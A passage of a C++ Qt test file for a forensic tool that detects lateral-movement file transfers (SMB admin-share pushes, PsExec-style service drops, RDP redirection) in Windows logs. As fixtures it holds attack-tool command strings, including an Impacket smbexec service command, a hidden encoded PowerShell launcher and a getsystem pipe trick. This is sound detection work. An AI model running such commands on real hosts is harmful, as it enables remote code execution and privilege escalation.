// Inference rules on small cases built through the real ImportEngine from NXLog-shaped JSON lines:
// each rule's positive case, the look-alikes that must stay non-transfers (IPC$ pipe WriteData,
// System .etl flushes, \\127.0.0.1\C$ writes, task XML by svchost, read-only 0x120089), evidence
// of both ends merged into one transfer across clock skew, execution after transfer, service
// binaries, RDP drive redirection, account spellings (and the NULL SID of failed logons), determinism, and the
// command-line reader.

#include "InferenceFixtures.h"

#include "core/ImportEngine.h"
#include "inference/CommandParser.h"
#include "inference/ConfidenceModel.h"
#include "inference/InferenceEngine.h"
#include "inference/ServiceDropRule.h"
#include "inference/TransferQuery.h"
#include "inference/WinPath.h"
#include "store/CaseStore.h"
#include "store/Sqlite.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace tt;
using namespace fixtures;

namespace {
constexpr const char *kDst = "WS6.corp.local";
constexpr const char *kSrc = "WS5.corp.local";
constexpr const char *kSrcIp = "10.1.1.5";
constexpr const char *kDstIp = "10.1.1.6";
constexpr double kSkew = 8; // WS6's clock runs 8 s ahead of WS5's

// The source's outbound SMB and the destination's session, write and System create of path.
QByteArray pushBothEnds(double t, const char *rel, const char *fullPath, int port, const char *logonId)
{
    const double d = t + kSkew;
    QByteArray b;
    b += netConnect(kSrc, at(t + 0.1), true, kSrcIp, port, kDstIp, 445);
    b += netConnect(kDst, at(d + 0.12), false, kSrcIp, port, kDstIp, 445);
    b += logon(kDst, at(d + 0.15), kSrcIp, port, logonId);
    b += shareOpen(kDst, at(d + 0.2), kSrcIp, port, logonId, "\\\\*\\C$", "\\??\\C:\\");
    b += shareCheck(kDst, at(d + 0.21), kSrcIp, port, logonId, "\\\\*\\C$", "\\??\\C:\\", rel, "0x17019f");
    b += shareCheck(kDst, at(d + 0.22), kSrcIp, port, logonId, "\\\\*\\C$", "\\??\\C:\\", rel, "0x2");
    b += fileCreate(kDst, at(d + 0.23), "System", fullPath);
    return b;
}
} // namespace

class TstInferenceRules : public QObject {
    Q_OBJECT
private:
    CaseFactory m_cases;

    std::unique_ptr<store::CaseStore> makeCase(const QByteArray &lines) { return m_cases.fromLines(lines); }
    std::unique_ptr<store::CaseStore> importFile(const QString &input) { return m_cases.fromFile(input); }

    static std::vector<inference::TransferRow> infer(store::CaseStore &cs) { return inferTransfers(cs); }

    static int64_t count(store::CaseStore &cs, const char *sql) { return cs.db().queryInt(sql); }

    static QString dump(store::CaseStore &cs)
    {
        QString out;
        auto st
            = cs.db().prepare("SELECT t.*, (SELECT group_concat(event || ':' || role || ':' || rule, ';') FROM "
                              "(SELECT * FROM transfer_evidence e WHERE e.transfer_id = t.id ORDER BY event, role)) "
                              "FROM transfers t ORDER BY id");
        while (st.step()) {
            for (int c = 0; c < st.columnCount(); ++c)
                out += QString::fromStdString(st.isNull(c) ? std::string("NULL") : st.text(c)) + QLatin1Char('|');
            out += QLatin1Char('\n');
        }
        return out;
    }

private slots:
    void smbShareWriteDestinationOnly()
    {
        QByteArray b;
        b += logon(kDst, at(10), kSrcIp, 50001, "0x1000");
        b += shareCheck(
            kDst, at(11), kSrcIp, 50001, "0x1000", "\\\\*\\C$", "\\??\\C:\\", "Windows\\Temp\\tool.exe", "0x17019f");
        b += shareCheck(
            kDst, at(11), kSrcIp, 50001, "0x1000", "\\\\*\\C$", "\\??\\C:\\", "Windows\\Temp\\tool.exe", "0x2");
        // The folder the file went into: WriteData on a directory means "add file", no transfer.
        b += shareCheck(kDst, at(11), kSrcIp, 50001, "0x1000", "\\\\*\\C$", "\\??\\C:\\", "Windows\\Temp", "0x2");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QCOMPARE(r.source, std::string(kSrcIp)); // known only by address: an IP-only host
        QCOMPARE(r.destination, std::string("WS6"));
        QCOMPARE(r.file, std::string("tool.exe"));
        QCOMPARE(r.path, std::string("C:\\Windows\\Temp\\tool.exe"));
        QCOMPARE(r.method, std::string("smb-admin-share"));
        QCOMPARE(r.direction, std::string("push"));
        QCOMPARE(r.account, std::string("CORP\\admin"));
        QVERIFY(!r.executed);
        QCOMPARE(count(*cs, "SELECT is_ip_only FROM hosts WHERE name='10.1.1.5'"), int64_t(1));
        QCOMPARE(count(*cs, "SELECT count(*) FROM transfer_evidence WHERE role='dst-logon'"), int64_t(1));
        QCOMPARE(count(*cs, "SELECT count(*) FROM transfer_evidence WHERE role='dst-write'"), int64_t(2));
    }

    void falsePositiveTraps()
    {
        QByteArray b;
        // Named-pipe writes on IPC$ (RPC), with WriteData in the mask.
        b += logon(kDst, at(10), kSrcIp, 50002, "0x1001");
        b += shareCheck(kDst, at(10.1), kSrcIp, 50002, "0x1001", "\\\\*\\IPC$", "", "srvsvc", "0x12019f");
        b += shareCheck(kDst, at(10.2), kSrcIp, 50002, "0x1001", "\\\\*\\IPC$", "", "svcctl", "0x12019f");
        // System flushing ETW buffers while an SMB session is open.
        b += netConnect(kDst, at(20), false, kSrcIp, 50003, kDstIp, 445);
        b += fileCreate(
            kDst, at(21), "System", "C:\\Windows\\System32\\LogFiles\\WMI\\RtBackup\\EtwRTEventLog-System.etl");
        // Reads (0x120089) of an existing file by a remote session.
        b += shareCheck(
            kDst, at(30), kSrcIp, 50003, "0x1002", "\\\\*\\C$", "\\??\\C:\\", "Users\\Public\\report.pdf", "0x120089");
        // A local job copying through \\127.0.0.1\C$ (loopback session, 5145, System write).
        b += process(kDst, at(40), "{AAAAAAAA-0000-0000-0000-000000000040}", 4040, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c copy /y D:\\SQLBackup\\nightly.bak \\\\127.0.0.1\\C$\\Backup\\", "CORP\\svc_backup");
        b += netConnect(kDst, at(40.1), true, "127.0.0.1", 50010, "127.0.0.1", 445);
        b += logon(kDst, at(40.12), "127.0.0.1", 50010, "0x1003", 3, "CORP", "svc_backup");
        b += shareCheck(
            kDst, at(40.15), "127.0.0.1", 50010, "0x1003", "\\\\*\\C$", "\\??\\C:\\", "Backup\\nightly.bak", "0x2");
        b += fileCreate(kDst, at(40.16), "System", "C:\\Backup\\nightly.bak");
        // wmiexec-style output written through \\127.0.0.1\C$ while a remote SMB session is open.
        b += netConnect(kDst, at(49.5), false, kSrcIp, 50011, kDstIp, 445);
        b += process(kDst, at(50), "{AAAAAAAA-0000-0000-0000-000000000050}", 4050, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\C$\\__output 2>&1", "CORP\\admin", "0x5000",
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
        b += fileCreate(kDst, at(50.2), "System", "C:\\__output");
        b += netConnect(kDst, at(51), true, "127.0.0.1", 50012, "127.0.0.1", 445);
        // Task XML written by the Schedule service right after inbound RPC.
        b += netConnect(kDst, at(60), false, kSrcIp, 50013, kDstIp, 135, "C:\\Windows\\System32\\svchost.exe");
        b += fileCreate(
            kDst, at(60.5), "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\Tasks\\UpdateCheck", 1200);
        // A service whose ImagePath is an inline command, not a dropped binary.
        b += service(kDst, at(70), "Updater", "%COMSPEC% /b /c start /b /min powershell -nop -enc AAAA");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        for (const auto &r : rows)
            qWarning() << "unexpected" << r.file.c_str() << r.rules.c_str();
        QCOMPARE(rows.size(), size_t(0));
    }

    void mergeBothEndsAcrossSkew()
    {
        QByteArray b;
        b += fileCreate(kSrc, at(50), "C:\\Users\\admin\\implant.exe", "C:\\ProgramData\\tool.exe", 3000);
        b += process(kSrc, at(100), "{BBBBBBBB-0000-0000-0000-000000000100}", 3100, "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe /c copy /y C:\\ProgramData\\tool.exe \\\\WS6\\C$\\ProgramData\\tool.exe");
        b += pushBothEnds(100, "ProgramData\\tool.exe", "C:\\ProgramData\\tool.exe", 50020, "0x2000");
        // Runs on the destination a minute later.
        b += process(kDst, at(100 + kSkew + 60), "{CCCCCCCC-0000-0000-0000-000000000160}", 6160,
            "C:\\ProgramData\\tool.exe", "C:\\ProgramData\\tool.exe", "CORP\\admin", "0x2001",
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QCOMPARE(r.source, std::string("WS5"));
        QCOMPARE(r.sourceIp, std::string(kSrcIp));
        QCOMPARE(r.destination, std::string("WS6"));
        QCOMPARE(r.path, std::string("C:\\ProgramData\\tool.exe"));
        QCOMPARE(r.srcPath, std::string("C:\\ProgramData\\tool.exe"));
        QCOMPARE(r.confidenceLabel, std::string("high"));
        QVERIFY(r.executed);
        QVERIFY(r.srcEvidence >= 3); // command, connection, staged file
        for (const char *rule : {"smb-share-write", "system-write", "source-command", "execution"})
            QVERIFY2(QString::fromStdString(r.rules).contains(QLatin1String(rule)), rule);
        for (const char *role : {"src-command", "src-connect", "src-file", "dst-write", "dst-create", "dst-logon",
                 "dst-share", "dst-connect", "dst-exec"})
            QVERIFY2(count(*cs,
                         qPrintable(QStringLiteral("SELECT count(*) FROM transfer_evidence WHERE role='%1'")
                                        .arg(QLatin1String(role))))
                    > 0,
                role);
        QCOMPARE(count(*cs,
                     "SELECT count(*) FROM transfers WHERE src_process_id IS NOT NULL AND dst_process_id IS NOT NULL"),
            int64_t(1));
        QCOMPARE(count(*cs, "SELECT count(*) FROM transfers WHERE hashes IS NOT NULL"), int64_t(1));
    }

    void separateSessionsAreSeparateTransfers()
    {
        // The same file pushed twice, 80 s apart, in two sessions.
        QByteArray b = pushBothEnds(100, "Windows\\Temp\\x.exe", "C:\\Windows\\Temp\\x.exe", 50030, "0x3000");
        b += pushBothEnds(180, "Windows\\Temp\\x.exe", "C:\\Windows\\Temp\\x.exe", 50031, "0x3001");
        auto cs = makeCase(b);
        QVERIFY(cs);
        QCOMPARE(infer(*cs).size(), size_t(2));
    }

    void serviceBinary()
    {
        QByteArray b = pushBothEnds(100, "Windows\\abcdSvc.exe", "C:\\Windows\\abcdSvc.exe", 50040, "0x4000");
        b += service(kDst, at(100 + kSkew + 1), "abcd", "%SystemRoot%\\abcdSvc.exe");
        b += process(kDst, at(100 + kSkew + 1.2), "{DDDDDDDD-0000-0000-0000-000000000001}", 7001,
            "C:\\Windows\\abcdSvc.exe", "C:\\Windows\\abcdSvc.exe", "NT AUTHORITY\\SYSTEM", "0x3e7",
            "C:\\Windows\\System32\\services.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].method, std::string("psexec-service-binary"));
        QVERIFY(rows[0].executed);
        QCOMPARE(rows[0].account, std::string("CORP\\admin")); // the writer, not SYSTEM running it
        QVERIFY(count(*cs, "SELECT count(*) FROM transfer_evidence WHERE role='dst-service'") >= 1);
    }

    void serviceBinaryWithoutSource()
    {
        // Only the destination's Sysmon: System writes the binary, services.exe starts it.
        QByteArray b = fileCreate(kDst, at(10), "System", "C:\\Windows\\RENAMEDSVC.exe");
        b += process(kDst, at(10.2), "{EEEEEEEE-0000-0000-0000-000000000001}", 7100, "C:\\Windows\\RENAMEDSVC.exe",
            "C:\\Windows\\RENAMEDSVC.exe", "NT AUTHORITY\\SYSTEM", "0x3e7", "C:\\Windows\\System32\\services.exe");
        // A System write that nothing ties to a session or a service stays out.
        b += fileCreate(kDst, at(300), "System", "C:\\Windows\\Temp\\unexplained.dat");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].file, std::string("RENAMEDSVC.exe"));
        QCOMPARE(rows[0].method, std::string("psexec-service-binary"));
        QVERIFY(rows[0].source.empty());
        // Its reasons: each kind of evidence with its weight, and the joint fact of a recorded
        // arrival (System, the SMB server, wrote it) run by the same path. The source is unknown,
        // but the destination's own records show the file coming in: not capped, high.
        const std::vector<std::string> why {
            "dst-create +0.40", "dst-exec +0.15", "dst-service +0.30", "arrival + use of the same file +0.60"};
        QCOMPARE(inference::confidenceReasons(rows[0]), why);
        QCOMPARE(rows[0].confidence, 0.857);
        QCOMPARE(rows[0].confidenceLabel, std::string("high"));
    }

    void confidenceReasonsNameTheCap()
    {
        // Without a source and without a record of the file coming in, the evidence is about the
        // destination only: a fetch command, the drop location, the install and the run (0.79)
        // are lowered to 0.70.
        const std::vector<std::string> roles {"dst-command", "dst-drop-site", "dst-exec", "dst-service"};
        const std::vector<std::string> capped {"dst-command +0.45", "dst-drop-site +0.35", "dst-exec +0.15",
            "dst-service +0.30", "no source: capped at 0.70"};
        QCOMPARE(inference::ConfidenceModel::reasons(roles, false), capped);
        QCOMPARE(inference::ConfidenceModel::scoreRoles(roles, false), 0.7);
        QCOMPARE(inference::ConfidenceModel::scoreRoles(roles, true), 0.787);
        // A 5145 write alone (the file server's record of the remote write) is high; the same
        // write installed as a service is near-certain.
        QCOMPARE(inference::ConfidenceModel::scoreRoles({"dst-write"}, true), 0.8);
        QCOMPARE(inference::ConfidenceModel::scoreRoles({"dst-service", "dst-write"}, true), 0.944);
        // System writes the binary, a 7045 installs it from the ADMIN$ root, services.exe runs it:
        // the arrival is recorded and used, so the unknown source does not cap it.
        QByteArray b = fileCreate(kDst, at(10), "System", "C:\\Windows\\qWeRtYuI.exe");
        b += service(kDst, at(10.5), "AbCdEfGh", "%systemroot%\\qWeRtYuI.exe");
        b += process(kDst, at(10.7), "{EEEEEEEE-0000-0000-0000-000000000002}", 7110, "C:\\Windows\\qWeRtYuI.exe",
            "C:\\Windows\\qWeRtYuI.exe", "NT AUTHORITY\\SYSTEM", "0x3e7", "C:\\Windows\\System32\\services.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const std::vector<std::string> why {"dst-create +0.40", "dst-drop-site +0.35", "dst-exec +0.15",
            "dst-service +0.30", "arrival + use of the same file +0.60"};
        QCOMPARE(inference::confidenceReasons(rows[0]), why);
        QCOMPARE(rows[0].confidence, 0.907);
    }

    void serviceDropPath_data()
    {
        QTest::addColumn<QString>("imagePath");
        QTest::addColumn<QString>("expected");
        // The documented drops of the remote service tools.
        QTest::newRow("metasploit psexec") << "%SYSTEMROOT%\\duKhLYUX.exe"
                                           << "C:\\Windows\\duKhLYUX.exe";
        QTest::newRow("impacket psexec ADMIN$") << "%systemroot%\\qWeRtYuI.exe"
                                                << "C:\\Windows\\qWeRtYuI.exe";
        QTest::newRow("impacket psexec C$") << "C:\\aBcDeFgH.exe"
                                            << "C:\\aBcDeFgH.exe";
        QTest::newRow("cobalt strike jump psexec") << "\\\\WS6\\ADMIN$\\a1b2c3d.exe"
                                                   << "C:\\Windows\\a1b2c3d.exe";
        QTest::newRow("cobalt strike loopback") << "\\\\127.0.0.1\\ADMIN$\\7f8e9d0.exe"
                                                << "C:\\Windows\\7f8e9d0.exe";
        QTest::newRow("unc drive share") << "\\\\10.1.1.6\\C$\\x1y2z3w4.exe"
                                         << "C:\\x1y2z3w4.exe";
        QTest::newRow("sysinternals psexec") << "\"%SystemRoot%\\PSEXESVC.exe\""
                                             << "C:\\Windows\\PSEXESVC.exe";
        QTest::newRow("with arguments") << "C:\\Windows\\RemComSvc.exe -s"
                                        << "C:\\Windows\\RemComSvc.exe";
        // Commands as services, bare names, Windows' own binaries, other folders: no drop.
        QTest::newRow("smbexec") << "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > "
                                    "%TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del "
                                    "%TEMP%\\execute.bat"
                                 << "";
        QTest::newRow("psexec_psh") << "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -c abc"
                                    << "";
        QTest::newRow("getsystem pipe") << "cmd.exe /c echo hgabms > \\\\.\\pipe\\hgabms"
                                        << "";
        QTest::newRow("bare cmd.exe") << "cmd.exe"
                                      << "";
        QTest::newRow("bare calc.exe") << "calc.exe"
                                       << "";
        QTest::newRow("explorer") << "C:\\Windows\\explorer.exe"
                                  << "";
        QTest::newRow("system32") << "C:\\Windows\\System32\\svchost.exe -k netsvcs"
                                  << "";
        QTest::newRow("driver") << "\\SystemRoot\\system32\\DRIVERS\\npcap.sys"
                                << "";
        QTest::newRow("tools folder") << "C:\\TOOLS\\mimidrv.sys"
                                      << "";
        QTest::newRow("ADMIN$ subfolder") << "\\\\WS6\\ADMIN$\\Temp\\x.exe"
                                          << "";
        QTest::newRow("plain share") << "\\\\WS6\\tools\\x.exe"
                                     << "";
        QTest::newRow("script") << "%SystemRoot%\\run.bat"
                                << "";
    }

    void serviceDropPath()
    {
        QFETCH(QString, imagePath);
        QFETCH(QString, expected);
        QCOMPARE(QString::fromStdString(inference::ServiceDropRule::dropPath(imagePath.toStdString())), expected);
    }

    void serviceDropRealRecording()
    {
        // Metasploit psexec as the target logged it (System 7045 + Security 4688, real records):
        // the binary arrived, from a source these logs do not name.
        auto cs = importFile(qEnvironmentVariable("TT_FIXTURES_DIR") + "/inference/metasploit-psexec-native.xml");
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QVERIFY(r.source.empty());
        QVERIFY(r.sourceIp.empty());
        QCOMPARE(r.destination, std::string("IE10WIN7"));
        QCOMPARE(r.file, std::string("duKhLYUX.exe"));
        QCOMPARE(r.path, std::string("C:\\Windows\\duKhLYUX.exe"));
        QCOMPARE(r.method, std::string("psexec-service-binary"));
        QCOMPARE(r.direction, std::string("push"));
        QVERIFY(r.account.empty()); // the service control manager logs no installer; LocalSystem runs it
        QVERIFY(r.executed); // services.exe started it (4688)
        QCOMPARE(r.confidenceLabel, std::string("medium")); // certain drop, unknown source
        QCOMPARE(count(*cs, "SELECT count(*) FROM transfer_evidence WHERE role='dst-drop-site'"), int64_t(1));
        const std::vector<std::string> why {"dst-drop-site +0.35", "dst-exec +0.15", "dst-service +0.30"};
        QCOMPARE(inference::confidenceReasons(r), why);
    }

    void serviceDropWithSession()
    {
        // Cobalt Strike jump psexec: a network logon and ADMIN$ open from the source, then the
        // service naming \\WS6\ADMIN$\<7 alphanumerics>.exe, started by services.exe.
        QByteArray b = logon(kDst, at(10), kSrcIp, 50100, "0x9000");
        b += shareOpen(kDst, at(10.5), kSrcIp, 50100, "0x9000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows");
        b += service(kDst, at(12), "a1b2c3d", "\\\\WS6\\ADMIN$\\a1b2c3d.exe");
        b += process(kDst, at(12.2), "{ABABABAB-0000-0000-0000-000000000001}", 7200, "C:\\Windows\\a1b2c3d.exe",
            "\\\\WS6\\ADMIN$\\a1b2c3d.exe", "NT AUTHORITY\\SYSTEM", "0x3e7", "C:\\Windows\\System32\\services.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        const auto &r = rows[0];
        QCOMPARE(r.source, std::string(kSrcIp));
        QCOMPARE(r.sourceIp, std::string(kSrcIp));
        QCOMPARE(r.destination, std::string("WS6"));
        QCOMPARE(r.account, std::string("CORP\\admin")); // the network logon's, not SYSTEM's
        QCOMPARE(r.file, std::string("a1b2c3d.exe"));
        QCOMPARE(r.path, std::string("C:\\Windows\\a1b2c3d.exe"));
        QCOMPARE(r.method, std::string("psexec-service-binary"));
        QCOMPARE(r.direction, std::string("push"));
        QVERIFY(r.executed);
        QCOMPARE(count(*cs, "SELECT count(*) FROM transfer_evidence WHERE role='dst-logon'"), int64_t(1));
    }

    void serviceDropInstallerFrom4697()
    {
        // A deployment tool's session (svc_deploy, from .64) opens on WS6 a second before an
        // attacker's (admin, from kSrcIp) and another one two seconds after it; the attacker's
        // service is then logged twice: System 7045 (no installer) and Security 4697 (the subject
        // that installed it). Both records are one install by admin: the drop is admin's, from
        // kSrcIp, one transfer; the latest session (the deployment tool's) is not its source.
        auto deployOpen = [](qint64 ms, int port, const char *logonId) {
            return security(kDst, 5140, ms,
                {{"SubjectUserName", QStringLiteral("svc_deploy")}, {"SubjectDomainName", QStringLiteral("CORP")},
                    {"SubjectLogonId", QString::fromLatin1(logonId)}, {"ShareName", QStringLiteral("\\\\*\\ADMIN$")},
                    {"ShareLocalPath", QStringLiteral("\\??\\C:\\Windows")}, {"IpAddress", QStringLiteral("10.0.0.64")},
                    {"IpPort", QString::number(port)}, {"AccessMask", QStringLiteral("0x1")}});
        };
        QByteArray b = logon(kDst, at(9), "10.0.0.64", 50300, "0x9300", 3, "CORP", "svc_deploy");
        b += deployOpen(at(9.2), 50300, "0x9300");
        b += logon(kDst, at(10), kSrcIp, 50100, "0x9000");
        b += shareOpen(kDst, at(10.5), kSrcIp, 50100, "0x9000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows");
        b += logon(kDst, at(11), "10.0.0.64", 50301, "0x9301", 3, "CORP", "svc_deploy");
        b += deployOpen(at(11.2), 50301, "0x9301");
        b += service(kDst, at(12), "IhiY", "%SystemRoot%\\cwVaTQRD.exe");
        b += security(kDst, 4697, at(12),
            {{"SubjectUserName", QStringLiteral("admin")}, {"SubjectDomainName", QStringLiteral("CORP")},
                {"SubjectLogonId", QStringLiteral("0x9000")}, {"ServiceName", QStringLiteral("IhiY")},
                {"ServiceFileName", QStringLiteral("%SystemRoot%\\cwVaTQRD.exe")},
                {"ServiceType", QStringLiteral("0x10")}, {"ServiceStartType", QStringLiteral("3")},
                {"ServiceAccount", QStringLiteral("LocalSystem")}});
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].sourceIp, std::string(kSrcIp));
        QCOMPARE(rows[0].account, std::string("CORP\\admin"));
        QCOMPARE(rows[0].file, std::string("cwVaTQRD.exe"));
        QCOMPARE(rows[0].method, std::string("psexec-service-binary"));
    }

    void serviceDropLookAlikes()
    {
        QByteArray b = logon(kDst, at(10), kSrcIp, 50110, "0x9100");
        // Impacket smbexec: a command as the service, the output written locally (no read logged).
        b += service(kDst, at(11), "BTOBTO",
            "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & "
            "%COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat");
        // Services of binaries that were already there.
        b += service(kDst, at(12), "spoolfool", "cmd.exe");
        b += service(kDst, at(13), "shell", "C:\\Windows\\explorer.exe");
        // PsExec run locally (-s): PsExec.exe itself writes PSEXESVC.exe, then installs it.
        b += fileCreate(kDst, at(20), "C:\\Tools\\PsExec.exe", "C:\\Windows\\PSEXESVC.exe", 3300);
        b += service(kDst, at(20.5), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        QCOMPARE(infer(*cs).size(), size_t(0));
    }

    void rdpDriveRedirection()
    {
        QByteArray b;
        b += netConnect(kDst, at(10), false, kSrcIp, 50050, kDstIp, 3389, "C:\\Windows\\System32\\svchost.exe");
        b += logon(kDst, at(14), kSrcIp, 0, "0x6000", 10);
        b += process(kDst, at(80), "{FFFFFFFF-0000-0000-0000-000000000080}", 8080, "C:\\Windows\\System32\\cmd.exe",
            "\"C:\\Windows\\system32\\cmd.exe\" /c copy \\\\tsclient\\C\\ProgramData\\t.exe "
            "C:\\Users\\admin\\AppData\\Local\\Temp\\t.exe",
            "CORP\\admin", "0x6000");
        b += fileCreate(
            kDst, at(80.9), "C:\\Windows\\System32\\cmd.exe", "C:\\Users\\admin\\AppData\\Local\\Temp\\t.exe", 8080);
        // And the client's own drive used to run a program directly.
        b += process(kDst, at(90), "{FFFFFFFF-0000-0000-0000-000000000090}", 8090, "\\\\tsclient\\c\\temp\\a.exe",
            "\"\\\\tsclient\\c\\temp\\a.exe\"", "CORP\\admin", "0x6000");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(2));
        for (const auto &r : rows) {
            QCOMPARE(r.method, std::string("rdp-tsclient"));
            QCOMPARE(r.direction, std::string("pull"));
            QCOMPARE(r.sourceIp, std::string(kSrcIp));
            QCOMPARE(r.destination, std::string("WS6"));
        }
        QCOMPARE(rows[0].file, std::string("t.exe"));
        QCOMPARE(rows[0].path, std::string("C:\\Users\\admin\\AppData\\Local\\Temp\\t.exe"));
        QCOMPARE(rows[1].file, std::string("a.exe"));
        QVERIFY(rows[1].executed);
        // Run from the client's drive: the image crossed the RDP channel; scored as a fetch, not
        // only as a run (it was 0.28, low, before issue 10).
        QCOMPARE(rows[1].confidenceLabel, std::string("medium"));
        QCOMPARE(rows[1].account, std::string("CORP\\admin"));
    }

    void rdpClientReceives()
    {
        // mstsc on the client writes what the server copied into \\tsclient\C.
        QByteArray b = netConnect(kSrc, at(5), true, kSrcIp, 50060, kDstIp, 3389, "C:\\Windows\\System32\\mstsc.exe");
        b += fileCreate(kSrc, at(100), "C:\\Windows\\system32\\mstsc.exe",
            "C:\\Users\\admin\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil.exe", 2580);
        b += fileCreate(kSrc, at(101), "C:\\Windows\\system32\\mstsc.exe",
            "C:\\Users\\admin\\AppData\\Local\\Microsoft\\Terminal Server Client\\Cache\\bcache24.bmc", 2580);
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].file, std::string("evil.exe"));
        QCOMPARE(rows[0].destination, std::string("WS5"));
        QCOMPARE(rows[0].sourceIp, std::string(kDstIp));
        QCOMPARE(rows[0].direction, std::string("push"));
    }

    void accountSpellingsAndFilters()
    {
        // Kerberos 4624 spells the domain as DNS (CORP.LOCAL), 5145 as NetBIOS (CORP).
        QByteArray b = logon(kDst, at(10), kSrcIp, 50070, "0x7000", 3, "CORP.LOCAL", "Admin");
        b += shareCheck(
            kDst, at(11), kSrcIp, 50070, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\y.ps1", "0x2");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].path, std::string("C:\\Windows\\Temp\\y.ps1"));
        QCOMPARE(count(*cs, "SELECT count(*) FROM account_links"), int64_t(1));
        inference::TransferFilter f;
        f.account = "admin@corp.local";
        QCOMPARE(inference::listTransfers(*cs, f).size(), size_t(1));
        f.account = "CORP.LOCAL\\ADMIN";
        QCOMPARE(inference::listTransfers(*cs, f).size(), size_t(1));
        f.account = "OTHER\\admin";
        QCOMPARE(inference::listTransfers(*cs, f).size(), size_t(0));
        f = {};
        f.host = "ws6.corp.local";
        QCOMPARE(inference::listTransfers(*cs, f).size(), size_t(1));
        f.host = "10.1.1.5";
        QCOMPARE(inference::listTransfers(*cs, f).size(), size_t(1));
        f.host = "WS9";
        QCOMPARE(inference::listTransfers(*cs, f).size(), size_t(0));
        f = {};
        f.minConfidence = 0.99;
        QCOMPARE(inference::listTransfers(*cs, f).size(), size_t(0));
    }

    void failedLogonNullSidKeepsAccountsApart()
    {
        // A failed logon (4625) writes the NULL SID S-1-0-0 beside whatever name was typed, here in
        // the DNS spelling of the domain. Seed 1 of the generator: two users' failed logons made
        // CORP.LOCAL\lfischer and CORP.LOCAL\admin "the same SID", and the NetBIOS spellings joined
        // them, so admin's copy was shown as lfischer's.
        auto failed = [](double t, const char *user) {
            return security(kDst, 4625, at(t),
                {{"SubjectUserSid", QStringLiteral("S-1-0-0")}, {"SubjectUserName", QStringLiteral("-")},
                    {"TargetUserSid", QStringLiteral("S-1-0-0")}, {"TargetUserName", QString::fromLatin1(user)},
                    {"TargetDomainName", QStringLiteral("CORP.LOCAL")}, {"LogonType", QStringLiteral("3")},
                    {"Status", QStringLiteral("0xc000006d")}, {"IpAddress", QString::fromLatin1(kSrcIp)},
                    {"IpPort", QStringLiteral("50090")}});
        };
        auto success = [](double t, const char *domain, const char *user, const char *sid, const char *logonId) {
            return security(kDst, 4624, at(t),
                {{"TargetUserSid", QString::fromLatin1(sid)}, {"TargetUserName", QString::fromLatin1(user)},
                    {"TargetDomainName", QString::fromLatin1(domain)}, {"TargetLogonId", QString::fromLatin1(logonId)},
                    {"LogonType", QStringLiteral("3")}, {"IpAddress", QString::fromLatin1(kSrcIp)},
                    {"IpPort", QStringLiteral("50091")}, {"AuthenticationPackageName", QStringLiteral("Kerberos")}});
        };
        QByteArray b = failed(1, "lfischer");
        b += failed(2, "admin");
        b += success(3, "CORP", "lfischer", "S-1-5-21-1-2-3-1118", "0x6100");
        b += success(4, "CORP.LOCAL", "lfischer", "S-1-5-21-1-2-3-1118", "0x6101");
        b += logon(kDst, at(10), kSrcIp, 50092, "0x7100", 3, "CORP", "admin");
        b += shareCheck(
            kDst, at(11), kSrcIp, 50092, "0x7100", "\\\\*\\ADMIN$", "\\??\\C:\\Windows", "Temp\\n.exe", "0x2");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].account, std::string("CORP\\admin"));
        QCOMPARE(count(*cs, "SELECT count(*) FROM accounts WHERE sid = 'S-1-0-0'"), int64_t(0));
        // The real SID of a spelling first seen in a failed logon is still learnt.
        QCOMPARE(count(*cs,
